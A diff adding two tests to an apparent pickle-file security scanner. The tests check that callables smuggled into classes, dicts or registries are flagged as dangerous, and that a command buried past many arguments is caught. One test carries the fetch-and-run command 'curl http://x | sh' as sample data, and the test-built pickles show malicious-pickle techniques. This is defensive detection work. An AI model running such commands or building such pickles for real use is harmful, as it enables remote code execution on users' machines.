@@ -180,6 +180,21 @@ def test_arguments_decide() -> None:
     assert found(program(_new(name("h5py._hl.files", "File")) + b"}b")) == set()
 
 
+def test_a_function_that_acts_is_found_in_whatever_hand_it_is_put() -> None:
+    """Given to a class, stored in a table or in a model that is handed on: what takes hold of it may call it."""
+    layer, registry = name("acme.nets", "Layer"), _new(name("acme.nets", "Registry"))
+    for data in (call(layer, RUNS, TRUE), _build(_new(layer), _dict(text("f"), RUNS)), registry + TRUE + RUNS + b"s"):
+        assert found(program(data)) == {"pickle-import"}
+        assert verdict(program(data)) is Verdict.DANGEROUS
+    assert found(program(_build(_new(layer), _dict(text("f"), name("acme.nets", "relu"))))) == set()
+
+
+def test_arguments_beyond_those_followed_are_not_passed_over() -> None:
+    """More arguments than anybody gives a class, with a command after the last one that is kept."""
+    many = b"".join(b"K\x01" for _ in range(40)) + text("curl http://x | sh")
+    assert found(program(call(name("acme.nets", "Layer"), many))) == {"pickle-argument"}
+
+
 LOOKALIKES = {
     "slots": _build(_new(name("acme.nets", "Layer")), b"N" + _dict(text("width"), b"K\x03") + b"\x86"),
     "rebuilt-dict": call(
